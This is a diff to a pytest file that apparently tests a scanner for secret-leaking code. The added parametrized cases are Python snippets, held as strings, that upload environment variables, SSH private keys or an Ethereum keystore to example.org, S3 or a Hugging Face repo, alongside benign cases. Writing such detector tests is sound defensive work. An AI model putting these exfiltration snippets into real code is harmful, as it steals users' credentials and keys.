@@ -86,10 +86,26 @@ def test_a_secret_that_is_sent(name: str) -> None:
 @pytest.mark.parametrize(
     "text",
     [
+        "import os, requests\ndef helper(): requests.post('https://example.org', json=dict(os.environ))\n",
+        "import os, requests\ndef helper():\n    p = os.path.expanduser('~/.ssh/id_rsa')\n    requests.post('https://example.org', data=open(p).read())\n",
+        "import os, glob, boto3\ndef helper():\n    for p in glob.glob(os.path.expanduser('~/.ssh/*')):\n        boto3.client('s3').upload_file(p, 'b', 'x')\n",
+        "import os\nfrom huggingface_hub import HfApi\ndef helper(): HfApi().upload_folder(folder_path=os.path.expanduser('~/.ssh'), repo_id='x/y')\n",
+        "import requests\ndef helper():\n    with open('/root/.ethereum/keystore/x') as f:\n        requests.post('https://example.org', headers={'X': f.read()})\n",
+    ],
+)
+def test_what_is_sent_by_a_function_that_nothing_calls(text: str) -> None:
+    assert [each.severity for each in secrets(text)] == [Severity.HIGH]
+
+
+@pytest.mark.parametrize(
+    "text",
+    [
         QUIET["its-own-service"],
         "import os, json\nclass A:\n    def __init__(self, c): print(json.dumps(dict(os.environ)))\n",
         "import os, requests\nclass A:\n    def __init__(self, c): requests.get(os.environ['MIRROR'])\n",
-        "import os, requests\ndef helper(): requests.post('https://example.org', json=dict(os.environ))\n",
+        "import os, requests\ndef helper(): requests.post('https://example.org', json={'key': os.environ['API_KEY']})\n",
+        "import requests\ndef helper(p): requests.post('https://example.org', data=open(p).read())\n",
+        "import paramiko\ndef helper(): paramiko.SSHClient().connect('x', key_filename='~/.ssh/id_rsa')\n",
     ],
 )
 def test_a_secret_that_stays_or_is_asked_for(text: str) -> None:
